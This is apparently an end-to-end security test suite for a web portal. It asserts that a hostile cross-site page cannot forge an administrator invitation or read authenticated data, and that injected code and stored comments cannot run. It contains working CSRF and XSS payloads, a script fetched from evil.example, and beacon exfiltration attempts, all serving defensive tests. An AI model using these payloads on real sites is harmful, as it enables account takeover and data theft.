// Other sites, and code that got into the page: the browser itself keeps them from doing anything.

import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { Person } from "../person.ts";
import { chapter, stage } from "../stage.ts";

/** A site of somebody else, that tries everything a browser lets it try. */
async function otherSite(html: string): Promise<{ server: Server; port: number; asked: string[] }> {
  const asked: string[] = [];
  const server = createServer((request, answer) => {
    asked.push(request.url ?? "");
    answer.setHeader("content-type", "text/html").end(html);
  });
  await new Promise<void>((resolved) => server.listen(0, "127.0.0.1", resolved));
  return { server, port: (server.address() as AddressInfo).port, asked };
}

/** Keeps what came of each: what the other site could read, or that it could not. */
const attacks = (portal: string, project: string): string => `<!doctype html><title>win</title><body><script>
  window.told = [];
  const invite = JSON.stringify({ email: "mallory@example.org", roles: ["administrator"] });
  const path = "${portal}/api/projects/${project}/invitations";
  const tell = (what) => window.told.push(what);
  const ask = (how, init) =>
    fetch(how === "read" ? "${portal}/api/me" : path, { credentials: "include", ...init })
      .then((answer) => answer.text().then((text) => tell(how + ":" + answer.type + ":" + text.length)))
      .catch(() => tell(how + ":failed"));
  (async () => {
    await ask("cors", { method: "POST", body: invite, headers: { "content-type": "application/json" } });
    await ask("plain", { method: "POST", mode: "no-cors", body: invite, headers: { "content-type": "text/plain" } });
    await ask("read", {});
    await ask("read", { mode: "no-cors" });
    const frame = document.createElement("iframe");
    await new Promise((done) => ((frame.onload = done), (frame.src = "${portal}/"), document.body.append(frame)));
    try { tell("frame:" + frame.contentDocument.title) } catch { tell("frame:closed") }
    tell("done");
  })();
</script><form method="post" enctype="text/plain" action="${portal}/api/projects/${project}/invitations">
<input name='{"email":"mallory@example.org","roles":["administrator"],"x":"' value='"}'><button>win</button></form>`;

chapter(
  "another site changes and reads nothing, though the administrator is signed in",
  async ({ world, project, admin }) => {
    const base = `/api/projects/${project}/invitations`;
    const before = (await admin.asks("GET", base)).text;
    const { server, port } = await otherSite(attacks(world.origin, project));
    try {
      // Once as a stranger, once as another port of the same machine, to which cookies do go.
      for (const host of ["127.0.0.1", "localhost"]) {
        const page = await admin.page.context().newPage();
        page.setDefaultTimeout(60_000);
        const statuses: number[] = [];
        page.on("response", (answer) => {
          if (answer.url().startsWith(`${world.origin}/api/`)) statuses.push(answer.status());
        });
        await page.goto(`http://${host}:${port}/`);
        await page.waitForFunction(() => (window as unknown as { told: string[] }).told.includes("done"));
        const told = await page.evaluate(() => (window as unknown as { told: string[] }).told);
        assert.deepEqual(told, [
          "cors:failed",
          "plain:failed",
          "read:failed",
          "read:failed",
          "frame:closed",
          "done",
        ]);
        await page.getByRole("button", { name: "win" }).click();
        await page.waitForURL(`${world.origin}/**`);
        assert.match((await page.textContent("body")) ?? "", /cross_site|wrong_content_type/);
        assert.ok(
          statuses.length > 0 && statuses.every((status) => status === 403 || status === 415),
          `${statuses}`,
        );
        await page.close();
      }
    } finally {
      server.close();
    }
    assert.equal((await admin.asks("GET", base)).text, before);
    await admin.page.reload();
    await admin.page.getByRole("navigation").waitFor();
  },
);

/** What an attacker would do who got so far as to run something in the page; each tells what became of it. */
const INJECTIONS: Record<string, () => unknown> = {
  "text as HTML": () => (document.body.innerHTML += "<img src=x onerror='window.hacked = 1'>"),
  "an inline script": () => {
    const script = document.createElement("script");
    script.textContent = "window.hacked = 1";
    document.head.append(script);
  },
  "a script from elsewhere": () => {
    const script = document.createElement("script");
    script.src = "https://evil.example/x.js";
    document.head.append(script);
  },
  // Later, because a debugger may evaluate whatever it likes while it is at it.
  "text as code": () =>
    new Promise((done, failed) =>
      setTimeout(() => {
        try {
          done((0, eval)("window.hacked = 1"));
        } catch (problem) {
          failed(problem instanceof Error ? problem : new Error("stopped"));
        }
      }),
    ),
  "a policy of its own": () =>
    (globalThis as unknown as Policies).trustedTypes.createPolicy("mine", { createHTML: (text) => text }),
  "the page's policy once more": () =>
    (globalThis as unknown as Policies).trustedTypes.createPolicy("svelte-trusted-html", {
      createHTML: (text) => text,
    }),
  "a handler in an attribute": () => document.body.setAttribute("onclick", "window.hacked = 1"),
};
type Policies = {
  trustedTypes: { createPolicy(name: string, rules: { createHTML(text: string): string }): void };
};

chapter("code that gets into the page does not run, and sends nothing away", async ({ world, chloe }) => {
  const victim = await Person.make(world, chloe.name);
  world.people.pop();
  await victim.signIn();
  const { page } = victim;
  for (const [what, inject] of Object.entries(INJECTIONS)) {
    const violations = victim.complaints.length;
    const thrown = await page.evaluate(inject).then(
      () => undefined,
      (problem: Error) => problem.message,
    );
    await page.evaluate(() => document.body.click());
    assert.equal(await page.evaluate(() => (window as { hacked?: number }).hacked), undefined, what);
    assert.ok(thrown !== undefined || victim.complaints.length > violations, `${what} was stopped`);
  }
  const { server, port, asked } = await otherSite("");
  const away = await page.evaluate(async (site) => {
    const image = new Image();
    const beacon = fetch(`${site}/fetched`, { mode: "no-cors" }).then(
      () => "sent",
      () => "stopped",
    );
    const pixel = new Promise((done) => {
      image.onload = () => done("sent");
      image.onerror = () => done("stopped");
      image.src = `${site}/pixel`;
    });
    return Promise.all([beacon, pixel]);
  }, `http://127.0.0.1:${port}`);
  server.close();
  assert.deepEqual([away, asked], [["stopped", "stopped"], []]);
  await page.context().close();
});

chapter("names and words of others are text, whatever stands in them", async ({ anna, chloe }) => {
  const id = await stage.chloe.submits(`${stage.world.folder}/design/mean-age-10.json`);
  const words = "<img src=x onerror=alert(1)><script>window.hacked = 1</script>\u202egnp.exe";
  assert.equal((await chloe.asks("POST", `/api/requests/${id}/comments`, { text: words })).status, 201);
  await anna.visits(`projects/${stage.project}/requests/${id}`);
  await anna.reads(/<script>window.hacked = 1<\/script>/);
  assert.equal(await anna.page.locator("main img, main script").count(), 0);
  assert.equal(await anna.page.getByText("\u202e").count(), 0, "the order of letters is not turned around");
});
